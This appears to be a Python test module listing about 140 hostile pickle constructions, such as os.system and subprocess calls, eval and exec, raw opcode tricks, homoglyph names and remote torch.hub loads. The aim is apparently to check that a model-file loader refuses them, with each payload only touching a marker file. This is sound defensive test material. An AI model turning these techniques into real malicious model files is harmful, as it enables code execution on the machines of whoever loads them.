"""What a pickle can hold that acts on the machine which opens it: each of these, once called, would leave a file, or tries to."""

from __future__ import annotations

import contextlib
import marshal
import os
import pickle
import signal
import sys
from pathlib import Path
from typing import Any

from edm_files import Saved
from forge import Call, Global, Outside, Raw, pickled


def name(dotted: str) -> Global:
    """``module:qualified.name`` as a reference."""
    module, _, qualified = dotted.partition(":")
    return Global(module, qualified)


def calls(mark: Path) -> dict[str, Any]:
    """Values that only a pickle can hold, by what they do; those that work make the file ``mark``."""
    touch, write, argv = f"touch '{mark}'", f"open({str(mark)!r}, 'w').close()", ["touch", str(mark)]
    system = name("os:system")
    imported = Call(name("builtins:__import__"), ("os",))
    simple: dict[str, tuple[Any, ...]] = {
        "os:system": (touch,),
        "posix:system": (touch,),
        "os:popen": (touch,),
        "os:mkdir": (str(mark),),
        "os:symlink": ("/", str(mark)),
        "os:posix_spawn": ("/usr/bin/touch", argv, {}),
        "os:execv": ("/usr/bin/true", ["true"]),
        "os:_exit": (3,),
        "subprocess:Popen": (argv,),
        "subprocess:check_output": (argv,),
        "subprocess:getoutput": (touch,),
        "builtins:eval": (write,),
        "builtins:exec": (write,),
        "builtins:open": (str(mark), "w"),
        "builtins:__import__": ("antigravity",),
        "builtins:getattr": (system, "__call__"),
        "builtins:setattr": (system, "__name__", "x"),
        "builtins:globals": (),
        "builtins:breakpoint": (),
        "builtins:input": (),
        "__builtin__:eval": (write,),
        "__builtin__:apply": (system, (touch,)),
        "runpy:_run_code": (write, {}),
        "runpy:run_path": (str(mark),),
        "timeit:timeit": (write, "pass", Raw(b"N"), 1),
        "cProfile:run": (write,),
        "pdb:run": (write,),
        "code:interact": (),
        "pty:spawn": (argv,),
        "commands:getoutput": (touch,),
        "multiprocessing.util:spawnv_passfds": (b"/usr/bin/touch", argv, ()),
        "shutil:copyfile": (__file__, str(mark)),
        "shutil:rmtree": (str(mark),),
        "pathlib:Path.touch": (Call(name("pathlib:Path"), (str(mark),)),),
        "tempfile:_os.system": (touch,),
        "torch.serialization:os.system": (touch,),
        "torch._utils:sys.modules.get": ("os",),
        "torch._utils:_rebuild_tensor_v2.__globals__": (),
        "collections:_sys.exit": (),
        "collections:OrderedDict.fromkeys": ("ab",),
        "torch:load": (str(mark),),
        "torch.hub:load": ("someone/evil", "model"),
        "torch.hub:load_state_dict_from_url": ("http://127.0.0.1:9/x",),
        "torch.jit:load": (str(mark),),
        "torch.utils.cpp_extension:load_inline": ("evil", "int x;"),
        "torch.package:PackageImporter": (str(mark),),
        "torch.storage:UntypedStorage.from_file": (str(mark), True, 8),
        "torch:set_num_threads": (1,),
        "torch:zeros": (10**12,),
        "torch._utils:_rebuild_sparse_tensor": (),
        "torch._utils:_import_dotted_name": ("os.system",),
        "numpy:load": (str(mark), None, True),
        "numpy:memmap": (str(mark), "uint8", "w+", 0, (4,)),
        "numpy:fromfile": (str(mark),),
        "numpy:zeros": (10**12,),
        "numpy.core.multiarray:_reconstruct": (name("numpy:memmap"), (0,), b"b"),
        "ctypes:CDLL": (Raw(b"N"),),
        "importlib:import_module": ("antigravity",),
        "webbrowser:open": (f"file://{mark}",),
        "socket:create_connection": (("127.0.0.1", 9),),
        "urllib.request:urlopen": ("http://127.0.0.1:9/",),
        "pickle:loads": (pickle.dumps(0),),
        "_pickle:loads": (pickled(Call(system, (touch,))),),
        "joblib:load": (str(mark),),
        "dill:loads": (pickle.dumps(0),),
        "yaml:unsafe_load": ("a",),
        "marshal:loads": (marshal.dumps(compile(write, "x", "exec")),),
        "codecs:open": (str(mark), "w"),
        "_codecs:encode": ("ab", "rot13"),
        "_codecs:lookup": ("rot13",),
        "copyreg:_reconstructor": (name("builtins:dict"), name("builtins:object"), Raw(b"N")),
        "copyreg:add_extension": ("os", "system", 240),
        "atexit:register": (system, touch),
        "threading:Thread": (Raw(b"N"), system, Raw(b"N"), (touch,)),
        "weakref:finalize": (),
        "inspect:getsource": (system,),
        "pydoc:locate": ("antigravity",),
        "logging.config:listen": (),
        "functools:reduce": (system, [touch]),
        "operator:methodcaller": ("system", touch),
        "operator:attrgetter": ("system",),
        "types:FunctionType": (),
        "types:CodeType": (),
        "builtins:compile": (write, "x", "exec"),
        "__main__:Model": (),
        "training.networks:EDMPrecond": (),
        "diffusers:UNet2DModel": (),
        "оs:system": (touch,),  # the first letter is Cyrillic
        "os:system ": (touch,),
        ":system": (),
        "builtins:": (),
    }
    compiled = Call(name("marshal:loads"), (marshal.dumps(compile(write, "x", "exec")),))
    nested = {
        "what import gave": Call(Call(name("builtins:getattr"), (imported, "system")), (touch,)),
        "what attrgetter gave": Call(Call(name("operator:attrgetter"), ("system",)), (imported,)),
        "what partial gave": Call(Call(name("functools:partial"), (system, touch)), ()),
        "what methodcaller gave": Call(Call(name("operator:methodcaller"), ("system", touch)), (imported,)),
        "what marshal gave": Call(Call(name("types:FunctionType"), (compiled, {})), ()),
        "a list of a map": Call(name("builtins:list"), (Call(name("builtins:map"), (system, [touch])),)),
        "compiled source": Call(name("builtins:exec"), (Call(name("builtins:compile"), (write, "x", "exec")),)),
        "a call in a state": Call(name("argparse:Namespace"), (), {"a": Call(system, (touch,))}),
        "a call as a key": {Call(system, (touch,)): 1},
        "a call in a tensor's place": Call(name("torch._utils:_rebuild_parameter"), (Call(system, (touch,)), True, {})),
        "a call in EDM's module": Saved("EDMPrecond", {"_modules": {"model": Call(system, (touch,))}}),
        "a call by INST": Raw(b"(" + pickled(touch)[2:-1] + b"ios\nsystem\n"),
        "a call by OBJ": Raw(b"(cos\nsystem\n" + pickled(touch)[2:-1] + b"o"),
        "a call by NEWOBJ": Call(system, (touch,), new=True),
        "a call by NEWOBJ_EX": Raw(b"cbuiltins\nint\n)}U\x01aK\x01s\x92"),
        "a call by STACK_GLOBAL": Raw(b"\x8c\x02os\x94\x8c\x06system\x94\x93" + pickled((touch,))[2:-1] + b"R"),
        "a name made of numbers": Raw(b"K\x01K\x02\x93"),
        "a name made by a call": Raw(b"ccollections\nOrderedDict\n)R\x8c\x06system\x93"),
        "a call of what is no name": Raw(b"]" + pickled((touch,))[2:-1] + b"R"),
        "an extension code": Raw(b"\x82\xf0" + pickled((touch,))[2:-1] + b"R"),
        "a wide extension code": Raw(b"\x84\xff\xff\xff\x7f)R"),
        "a class overridden": Call(name("argparse:Namespace"), (), {"__class__": name("builtins:dict")}),
        "a reduce overridden": Call(name("argparse:Namespace"), (), {"__reduce__": system}),
        "a setstate overridden": Call(name("argparse:Namespace"), (), {"__setstate__": system}),
        "slots overridden": Call(name("argparse:Namespace"), (), (None, {"__dict__": {}})),
        "a state for a dictionary": Call(name("collections:OrderedDict"), (), {"__class__": name("builtins:int")}),
        "a state for a list": Raw(b"]}b"),
        "a state for a name": Raw(b"cbuiltins\nint\n}\x8c\x08__call__" + b"Nsb"),
        "a state twice": Raw(b"cargparse\nNamespace\n)R}b}b"),
        "an object array": Call(
            name("numpy.core.multiarray:_reconstruct"),
            (name("numpy:ndarray"), (0,), b"b"),
            (
                1,
                (1,),
                Call(name("numpy:dtype"), ("O8", False, True), (3, "|", None, None, None, -1, -1, 63)),
                False,
                [system],
            ),
        ),
        "a structured array": Call(
            name("numpy.core.multiarray:_reconstruct"),
            (name("numpy:ndarray"), (0,), b"b"),
            (
                1,
                (1,),
                Call(name("numpy:dtype"), ("V4", False, True), (3, "|", None, ("a",), {}, 4, 1, 0)),
                False,
                b"abcd",
            ),
        ),
        "a default that calls": Call(
            name("collections:defaultdict"), (Call(name("functools:partial"), (system, touch)),)
        ),
        "a persistent id that is no storage": Outside(("module", system, "x.py", "raise SystemExit")),
        "a persistent id in text": Raw(b"Pstorage\n"),
        "a buffer outside": Raw(b"\x97"),
    }
    return {**{what: Call(name(what), arguments) for what, arguments in simple.items()}, **nested}


if __name__ == "__main__":  # python hostile_calls.py FILE...: opens each as one should not, to show that they are armed
    for file in sys.argv[1:]:
        if os.fork() == 0:  # some end the process
            signal.alarm(10)
            with open(file, "rb") as opened, contextlib.suppress(Exception):
                pickle.load(opened)
            os._exit(0)
        os.wait()
